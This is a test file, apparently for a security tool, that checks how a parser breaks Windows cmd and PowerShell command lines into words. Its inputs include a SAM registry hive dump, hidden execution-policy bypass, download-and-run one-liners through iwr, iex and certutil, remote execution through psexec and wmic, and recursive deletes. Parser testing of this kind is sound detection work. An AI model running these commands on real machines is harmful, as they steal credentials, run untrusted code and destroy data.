import { describe, expect, it } from "vitest";
import { understand } from "../../lib/command/understand.js";
import type { CommandSource } from "../../lib/domain/event.js";

const wordsIn = (source: CommandSource): readonly string[] =>
  understand(source).commands.map(({ argv }) => argv.join("|"));

/** As a Windows sensor shows it. */
const shown = (text: string): readonly string[] => wordsIn({ kind: "line", text, fidelity: "raw-windows" });

/** As somebody writes it down: plain telemetry is read the way a shell of Unix would. */
const written = (text: string): readonly string[] => wordsIn({ kind: "script", text });

describe("a path of Windows", () => {
  it.each([
    ["reg save HKLM\\SAM C:\\x\\sam.hiv", "reg|save|HKLM\\SAM|C:\\x\\sam.hiv"],
    ["reg save HKLM\\\\SAM s.hiv", "reg|save|HKLM\\SAM|s.hiv"],
    ["icacls C:\\ /grant everyone:F", "icacls|C:\\|/grant|everyone:F"],
    ["copy \\\\srv\\share\\x.exe %TEMP%\\x.exe", "copy|\\\\srv\\share\\x.exe|%TEMP%\\x.exe"],
    ["sudo C:\\Windows\\System32\\reg.exe query HKCU\\x", "C:\\Windows\\System32\\reg.exe|query|HKCU\\x"],
    [".\\tools\\build.exe all", ".\\tools\\build.exe|all"],
  ])("keeps its backslashes: %s", (text, words) => expect(written(text)).toEqual([words]));

  it.each([
    ["r\\m -rf x\\ y", "rm|-rf|x y"],
    ["sed s:\\bfoo:x: a", "sed|s:bfoo:x:|a"],
    ["find . -name .\\*", "find|.|-name|.*"],
    ["echo a\\nb \\$x", "echo|anb|$x"],
  ])("is nothing else: %s", (text, words) => expect(written(text)).toEqual([words]));
});

describe("cmd runs", () => {
  it.each([
    ["cmd.exe /c del /s C:\\x", ["del|/s|C:\\x"]],
    ['cmd /d /s /c "del a & rd /s b && echo c || ver"', ["del|a", "rd|/s|b", "echo|c", "ver"]],
    ['cmd /cdel "C:\\a b"', ["del|C:\\a b"]],
    ['cmd /c "p^owershell -c rm x"', ["powershell|-c|rm|x", "rm|x"]],
    ['cmd /c "for /d %i in (C:\\Users\\*) do rd /s /q %i"', ["rd|/s|/q|%i"]],
    ['cmd /c "if not exist a (del b) else (del c)"', ["del|b)|else|(del|c)"]],
    ['cmd /c "@call rd /s x"', ["rd|/s|x"]],
    ["%ComSpec% /c del x", ["del|x"]],
    ["cmd /c rmdir /s x", ["rd|/s|x"]],
    ['cmd /k "echo a | more"', ["echo|a", "more"]],
  ])("%s", (text, words) => expect(shown(text)).toEqual(words));

  it("and writes to a file", () =>
    expect(
      understand({ kind: "line", text: 'cmd /c "echo x 2>nul >> C:\\a b"', fidelity: "raw-windows" }).commands[0],
    ).toMatchObject({ argv: ["echo", "x", "b"], redirections: [{ operator: ">>", target: "C:\\a" }] }));
});

describe("PowerShell runs", () => {
  it.each([
    ["Get-Item a; Remove-Item 'b c'", ["Get-Item|a", "Remove-Item|b c"]],
    ["if (Test-Path a) { ri a -r } else { exit }", ["Test-Path|a", "ri|a|-r"]],
    ["$x = iwr http://a.example; $y=gc a", ["iwr|http://a.example", "gc|a"]],
    ["gci a | % { ri $_ }", ["ri|$_", "gci|a", "ForEach-Object|{ ri $_ }"]],
    ["& 'C:\\a b\\x.exe' -y", ["C:\\a b\\x.exe|-y"]],
    ["Re`move-Item a # b", ["Remove-Item|a"]],
    ["[IO.File]::Delete('a')", ["expression|[IO.File]::Delete('a')"]],
    ["$x.Name; 'rm a'; 12", []],
    ["'rm a' | iex", ["iex|rm a", "rm|a"]],
    ["Write-Host a > b.txt", ["Write-Host|a"]],
    [
      "Start-Process cmd -ArgumentList '/c','del x' -Verb RunAs",
      ["Start-Process|cmd|-ArgumentList|/c,del x|-Verb|RunAs", "del|x"],
    ],
    ["icm -ComputerName web-1 { Stop-Service x }", ["Stop-Service|x", "icm|-ComputerName|web-1|{ Stop-Service x }"]],
  ])("%s", (text, words) => {
    expect(wordsIn({ kind: "argv", argv: ["pwsh", "-NoProfile", "-Command", text] }).slice(1)).toEqual(words);
    expect(
      wordsIn({ kind: "argv", argv: ["powershell", "-e", Buffer.from(text, "utf16le").toString("base64")] }).slice(1),
    ).toEqual(words);
  });

  it.each([
    ["powershell -ep bypass -w hidden rm x", ["rm|x"]],
    ['powershell.exe "iex (iwr http://a.example)"', ["iwr|http://a.example", "iex|(iwr http://a.example)"]],
    ["powershell -File x.ps1 -c rm", []],
    ["powershell .\\x.ps1 a", []],
  ])("what its options say: %s", (text, words) => expect(shown(text).slice(1)).toEqual(words));

  it("in a pipeline whose stages know each other", () =>
    expect(
      understand({ kind: "argv", argv: ["pwsh", "-c", "iwr http://a.example | iex"] }).commands.at(-1),
    ).toMatchObject({ argv: ["iex"], upstream: ["iwr"] }));

  it("what stands on its standard input", () => expect(written("echo 'rm x' | powershell -").at(-1)).toBe("rm|x"));
});

describe("a file that PowerShell or cmd downloads and starts", () => {
  it.each([
    'powershell -c "iwr https://get.example/x.exe -OutFile x.exe; Start-Process .\\x.exe"',
    "powershell -c \"$c = New-Object Net.WebClient; $c.DownloadFile('https://get.example/x.exe', 'x.exe'); & .\\x.exe\"",
    'cmd /c "certutil -urlcache -f https://get.example/x.exe x.exe & x.exe"',
    'cmd /c "powershell iwr https://get.example/x.ps1 -o x.ps1 & powershell -f x.ps1"',
  ])("is known for one: %s", (text) =>
    expect(understand({ kind: "script", text }).commands.at(-1)?.upstream).toContain("fetched-file"),
  );
});

describe("other programs of Windows run", () => {
  it.each([
    ["wsl -d Ubuntu -- rm x", "rm|x"],
    ['wsl bash -c "rm x"', "rm|x"],
    ["wsl --unregister Ubuntu", "wsl|--unregister|Ubuntu"],
    ["psexec \\\\web-1 -u a -p b -s cmd /c del x", "del|x"],
    ["winrs -r:web-1 del x", "del|x"],
    ['runas /user:admin "cmd /c del x"', "del|x"],
    ['schtasks /create /tn x /tr "cmd /c del x" /sc daily', "del|x"],
    ['sc create x binPath= "cmd /c del x"', "del|x"],
    ['forfiles /p C:\\x /c "cmd /c del @path"', "del|@path"],
    ['wmic /node:web-1 process call create "cmd /c del x"', "del|x"],
    ["gsudo del x", "del|x"],
  ])("%s", (text, words) => expect(shown(text).at(-1)).toBe(words));
});

describe("64 KiB of", () => {
  it.each([
    "(",
    "{",
    '"',
    "'",
    "$(",
    "`",
    "^",
    ">",
    ">a ",
    "a >b ",
    "1>",
    "return ",
    "$x=",
    "a = ",
    "& ",
    "| ",
    "; ",
    "@(",
    "(a) ",
    "{a} ",
    "if (",
    "for a (b) do ",
    "#",
  ])(
    "%j for PowerShell and cmd take bounded work",
    (part) => {
      const text = part.repeat(65_536 / part.length);
      for (const shell of [
        ["pwsh", "-c"],
        ["cmd", "/c"],
      ])
        expect(understand({ kind: "argv", argv: [...shell, text] }).commands.length).toBeLessThan(600);
    },
    2_000,
  );
});
